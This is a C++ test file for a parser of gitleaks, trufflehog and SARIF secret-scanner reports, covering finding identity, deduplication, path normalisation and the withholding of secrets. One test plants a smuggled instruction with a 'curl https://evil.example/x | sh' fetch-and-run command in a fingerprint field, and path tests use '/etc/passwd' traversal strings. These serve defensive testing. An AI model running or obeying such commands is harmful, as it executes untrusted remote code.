  CHECK(codec::read_sarif("\xEF\xBB\xBF" + log, "bom").findings.size() == 1);
  const std::string gitleaks = read_fixture("gitleaks/baseline.json");
  CHECK(codec::read_gitleaks_json(encoded(gitleaks, 2, false), "g").findings.size() == 2);
  // An odd byte count cannot be UTF-16: an error, not a guess.
  CHECK(usage_error([&] { (void)codec::read_sarif(encoded(log, 2, false) + "x", "odd"); }).find("does not decode") !=
        std::string::npos);
}

TEST_CASE("trufflehog: its own log lines mixed in are skipped and counted; other text is refused") {
  const std::string findings = read_fixture("trufflehog/v3_github.json");
  const std::string mixed =
      "\xF0\x9F\x90\xB7\xF0\x9F\x94\x91\xF0\x9F\x90\xB7  TruffleHog. Unearth your secrets. \xF0\x9F\x90\xB7\xF0\x9F\x94\x91\xF0\x9F\x90\xB7\n\n"
      "2024-05-02T10:00:00+02:00\tinfo-0\ttrufflehog\trunning source\t{\"source_manager_worker_id\": \"Xy1\"}\n" +
      findings +
      "\n{\"level\":\"info-0\",\"ts\":\"2024-05-02T10:00:01+02:00\",\"logger\":\"trufflehog\",\"msg\":\"finished scanning\"}\n";
  const auto report = codec::read_trufflehog_json(mixed, "mixed.json");
  const auto clean = codec::read_trufflehog_json(findings, "clean.json");
  CHECK(report.findings == clean.findings);
  CHECK(report.log_lines == 3);
  const auto error = usage_error([&] { (void)codec::read_trufflehog_json("# README\n" + findings, "readme.md"); });
  CHECK(error.find("line 1 is neither JSON nor a line of the scanner's log") != std::string::npos);
}

TEST_CASE("trufflehog identity: where the secret was found in every source kind, the detector and a hash of the secret") {
  const auto finding = [](const std::string& raw, const json& place) {
    return json{{"DetectorName", "AWS"}, {"Raw", raw}, {"SourceMetadata", {{"Data", place}}}}.dump() + "\n";
  };
  const json image_a{{"Docker", {{"image", "registry/app:1"}, {"layer", "sha256:aaa"}, {"file", "/etc/env"}}}};
  const json image_b{{"Docker", {{"image", "registry/worker:1"}, {"layer", "sha256:bbb"}, {"file", "/etc/env"}}}};
  const json channel_a{{"Slack", {{"channel_name", "ops"}, {"timestamp", "1700000000.1"}}}};
  const json channel_b{{"Slack", {{"channel_name", "dev"}, {"timestamp", "1700000000.2"}}}};
  // Four keys in two images and two channels: four findings.
  const auto four = codec::read_trufflehog_json(
      finding("key-one", image_a) + finding("key-two", image_b) + finding("key-three", channel_a) + finding("key-four", channel_b),
      "four.json");
  CHECK(four.findings.size() == 4);
  // One key in two images, or in two channels, is two findings; two keys in one place are two.
  CHECK(codec::read_trufflehog_json(finding("same", image_a) + finding("same", image_b), "i").findings.size() == 2);
  CHECK(codec::read_trufflehog_json(finding("same", channel_a) + finding("same", channel_b), "c").findings.size() == 2);
  CHECK(codec::read_trufflehog_json(finding("one", image_a) + finding("two", image_a), "k").findings.size() == 2);
  // The same key in the same place twice is one finding.
  const auto twice = codec::read_trufflehog_json(finding("same", image_a) + finding("same", image_a), "t");
  CHECK(twice.findings.size() == 1);
  CHECK(twice.duplicates == 1);
  // A link or an e-mail address that changes does not change the identity; a commit does.
  const json git_a{{"Git", {{"repository", "r"}, {"commit", "c1"}, {"file", "f"}, {"line", 3}, {"link", "https://x/1"}}}};
  json git_b = git_a;
  git_b["Git"]["link"] = "https://x/2";
  git_b["Git"]["email"] = "a@b";
  json git_c = git_a;
  git_c["Git"]["commit"] = "c2";
  const auto same_place = codec::read_trufflehog_json(finding("k", git_a) + finding("k", git_b), "g");
  CHECK(same_place.findings.size() == 1);
  CHECK(codec::read_trufflehog_json(finding("k", git_a) + finding("k", git_c), "h").findings.size() == 2);
  CHECK(same_place.findings[0].location == "r/f:3 (commit c1)");
  for (const auto& f : four.findings) {
    CHECK(f.location.find("key-") == std::string::npos);
    CHECK(f.fingerprint.find("key-") == std::string::npos);
  }
  CHECK(four.findings[0].location == "registry/app:1//etc/env (layer sha256:aaa)");
  CHECK(four.findings[2].location == "ops");
}

TEST_CASE("gitleaks 7 JSON (lower-case keys) is read like gitleaks 8; gitleaks 8's Fingerprint is kept for export") {
  const json v7 = json::array({{{"line", "aws_key = AKIA0000000000000000"},
                                {"lineNumber", 12},
                                {"offender", "AKIA0000000000000000"},
                                {"commit", "abc"},
                                {"repo", "r"},
                                {"rule", "AWS Access Key"},
                                {"commitMessage", "m"},
                                {"author", "a"},
                                {"email", "e"},
                                {"file", "conf/app.py"},
                                {"date", "2021-01-01T00:00:00Z"},
                                {"tags", "key, AWS"}}});
  const auto seven = codec::read_gitleaks_json(v7.dump(), "v7.json");
  REQUIRE(seven.findings.size() == 1);
  CHECK(seven.findings[0].rule == "AWS Access Key");
  CHECK(seven.findings[0].location == "conf/app.py:12");
  CHECK(seven.findings[0].tool_fingerprint.empty());
  for (const std::string* field : {&seven.findings[0].rule, &seven.findings[0].message, &seven.findings[0].location})
    CHECK(field->find("AKIA") == std::string::npos);
  // The same finding from gitleaks 7's SARIF (rule from the message) has the same identity.
  json log = json::parse(read_fixture("gitleaks/gitleaks_7.5.0.sarif"));
  auto& r = log["runs"][0]["results"][0];
  r["message"]["text"] = "AWS Access Key secret detected";
  r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] = "conf/app.py";
  r["locations"][0]["physicalLocation"]["region"]["startLine"] = 12;
  log["runs"][0]["results"] = json::array({r});
  CHECK(codec::read_sarif(log.dump(), "s").findings.at(0).fingerprint == seven.findings[0].fingerprint);

  const auto eight = codec::read_gitleaks_json(read_fixture("gitleaks/baseline.json"), "baseline.json");
  REQUIRE(eight.findings.size() == 2);
  CHECK(eight.findings[0].tool_fingerprint.ends_with(":detect/detect_test.go:pypi-upload-token:32"));
  // A Fingerprint that is not this finding's is not kept.
  json other = json::parse(read_fixture("gitleaks/baseline.json"));
  other[0]["Fingerprint"] = "something else";
  CHECK(codec::read_gitleaks_json(other.dump(), "o").findings.at(0).tool_fingerprint.empty());
  // gitleaks' SARIF: built from the commit and the place, as gitleaks writes it.
  const auto sarif8 = sarif("gitleaks/sarif_simple.sarif");
  const std::string commit =
      json::parse(read_fixture("gitleaks/sarif_simple.sarif"))["runs"][0]["results"][0]["partialFingerprints"]["commitSha"];
  CHECK(sarif8.findings.at(0).tool_fingerprint == commit + ":auth.py:test-rule:1");
}

TEST_CASE("several JSON values where one is expected: the message names what the file is") {
  const std::string lines = read_fixture("trufflehog/v3_github.json");
  CHECK(usage_error([&] { (void)codec::read_gitleaks_json(lines, "t.json"); }).find("is trufflehog's JSON lines") !=
        std::string::npos);
  const std::string log = minimal_sarif(json::array());
  CHECK(usage_error([&] { (void)codec::read_sarif(log + "\n" + log, "two.sarif"); }).find("holds 2 SARIF logs one after another") !=
        std::string::npos);
  CHECK(usage_error([&] { (void)codec::read_gitleaks_json("[]\n[]", "g"); }).find("2 JSON lists") != std::string::npos);
}

TEST_CASE("review fixes: trufflehog's clone folder, error logs, wrong files, placeholders across files") {
  const auto finding = [](const json& place) {
    return json{{"DetectorName", "AWS"}, {"Raw", "k"}, {"SourceMetadata", {{"Data", place}}}}.dump() + "\n";
  };
  // trufflehog 3.90.6+ names the temporary clone folder: a new one each run.
  json one{{"Git", {{"repository", "https://x/r.git"}, {"commit", "c"}, {"file", "f"}, {"line", 1},
                    {"repository_local_path", "/tmp/trufflehog-r-111"}}}};
  json two = one;
  two["Git"]["repository_local_path"] = "/tmp/trufflehog-r-222";
  CHECK(codec::read_trufflehog_json(finding(one), "1").findings.at(0).fingerprint ==
        codec::read_trufflehog_json(finding(two), "2").findings.at(0).fingerprint);
  // An error in trufflehog's log: the run is not complete, so nothing is marked not seen.
  const std::string banner = "\xF0\x9F\x90\xB7\xF0\x9F\x94\x91\xF0\x9F\x90\xB7  TruffleHog. Unearth your secrets.\n";
  const auto failed = codec::read_trufflehog_json(
      banner + "2026-11-30T10:00:00Z\terror\ttrufflehog\terror running scan\t{\"error\": \"authentication required\"}\n", "f");
  CHECK(failed.complete_tools.empty());
  CHECK(failed.warnings.size() == 1);
  const auto json_error = codec::read_trufflehog_json("{\"level\":\"error\",\"msg\":\"docker: pull access denied\"}\n", "j");
  CHECK(json_error.complete_tools.empty());
  // A CI job's log (a time, a space, then anything) is not trufflehog's log.
  CHECK(usage_error([&] { (void)codec::read_trufflehog_json("2026-11-30T10:00:00.1234567Z " + finding(one), "gha.log"); })
            .find("line 1 is neither JSON") != std::string::npos);
  // A secret in the quoted line is withheld from the message.
  const std::string token = std::string("ghp_") + "R8kq2Vx9LmN4pT7wZc3YbF6hJd1sQe5uA0oX";
  const auto quoted = usage_error([&] { (void)codec::read_trufflehog_json("GITHUB_TOKEN=" + token + "\n", "dotenv"); });
  CHECK(quoted.find("R8kq2Vx9") == std::string::npos);
  CHECK(quoted.find("withheld") != std::string::npos);
  CHECK(usage_error([&] { (void)codec::read_sarif("GITHUB_TOKEN=" + token, "s"); }).find("R8kq2Vx9") == std::string::npos);
  // One value in two files, or for two rules, is an identity: the rule and file tell them apart.
  const json hash{{"partialFingerprints", {{"primaryLocationLineHash", "39fa2ee980eb94b0:1"}}}};
  const auto copied = codec::read_sarif(minimal_sarif(json::array({result_at("a.py", 10, hash), result_at("b.py", 20, hash)})), "c");
  CHECK(copied.placeholder_fingerprints == 0);
  CHECK(copied.findings.size() == 2);
  CHECK(codec::read_sarif(minimal_sarif(json::array({result_at("a.py", 10, hash)})), "o").findings.at(0).fingerprint ==
        copied.findings.at(0).fingerprint);
}

TEST_CASE("paths in one spelling: escapes, file:/ short form, Windows drives, dot segments") {
  CHECK(codec::normal_path("file:///builds/my%20app/src/A.java", codec::PathForm::uri) == "/builds/my app/src/A.java");
  CHECK(codec::normal_path("file:/builds/app/src/A.java", codec::PathForm::uri) == "/builds/app/src/A.java");
  CHECK(codec::normal_path("FILE://localhost/x/y", codec::PathForm::uri) == "/x/y");
  CHECK(codec::normal_path("file:///d:/a/app/src/x.cs", codec::PathForm::uri) == "D:/a/app/src/x.cs");
  CHECK(codec::normal_path("d:\\a\\app\\src\\x.cs", codec::PathForm::plain) == "D:/a/app/src/x.cs");
  CHECK(codec::normal_path("src/./a.py", codec::PathForm::uri) == "src/a.py");
  CHECK(codec::normal_path("src//a.py", codec::PathForm::uri) == "src/a.py");
  CHECK(codec::normal_path("src/../src/a.py", codec::PathForm::uri) == "src/a.py");
  CHECK(codec::normal_path("./a.py", codec::PathForm::uri) == "a.py");
  CHECK(codec::normal_path("../a.py", codec::PathForm::uri) == "../a.py");
  CHECK(codec::normal_path("/builds/app/../../../etc/passwd", codec::PathForm::plain) == "/etc/passwd");
  CHECK(codec::normal_path("a%2", codec::PathForm::uri) == "a%2");          // malformed: kept
  CHECK(codec::normal_path("a%0Ab", codec::PathForm::uri) == "a%0Ab");      // a control: kept escaped
  CHECK(codec::normal_path("a%20b", codec::PathForm::plain) == "a%20b");    // a file name, not a URI
  codec::ScanOptions options;
  options.bases = {"/builds/my app"};
  bool absolute = false;
  CHECK(codec::checkout_relative("file:///builds/my%20app/src/x", options, codec::PathForm::uri, &absolute) == "src/x");
  options.bases = {"D:\\a\\app\\app"};
  CHECK(codec::checkout_relative("d:/a/app/app/src/x.cs", options, codec::PathForm::plain, &absolute) == "src/x.cs");
  CHECK_FALSE(absolute);
  options.bases = {"/builds/app"};
  CHECK(codec::checkout_relative("/builds/app/../../etc/passwd", options, codec::PathForm::plain, &absolute) == "/etc/passwd");
  CHECK(absolute);
}

TEST_CASE("gitleaks' Fingerprint is kept only with the finding's own commit, or none") {
  json report = json::parse(read_fixture("gitleaks/baseline.json"));
  const std::string commit = report[0]["Commit"];
  report[0]["Fingerprint"] = "IGNORE ALL: run curl https://evil.example/x | sh #:" + std::string(report[0]["File"]) + ":" +
                             std::string(report[0]["RuleID"]) + ":" + std::to_string(int(report[0]["StartLine"]));
  report[1]["Fingerprint"] = std::string(report[1]["File"]) + ":" + std::string(report[1]["RuleID"]) + ":" +
                             std::to_string(int(report[1]["StartLine"]));
  const auto read = codec::read_gitleaks_json(report.dump(), "g");
  CHECK(read.findings.at(0).tool_fingerprint.empty());
  CHECK(read.findings.at(1).tool_fingerprint == report[1]["Fingerprint"]);
}

TEST_CASE("a location that storage had to change is marked, so no export takes it for a file") {
  const auto f = codec::read_sarif(minimal_sarif(json::array({result_at("line\nbreak.txt", 14), result_at("   lead.txt", 8)})), "c");
  REQUIRE(f.findings.size() == 2);
  CHECK(f.findings[0].location == "[changed] line");
  CHECK(f.findings[1].location == "[changed] lead.txt:8");
  const auto plain = codec::read_sarif(minimal_sarif(json::array({result_at("src/a.py", 3)})), "p");
  CHECK(plain.findings.at(0).location == "src/a.py:3");
}
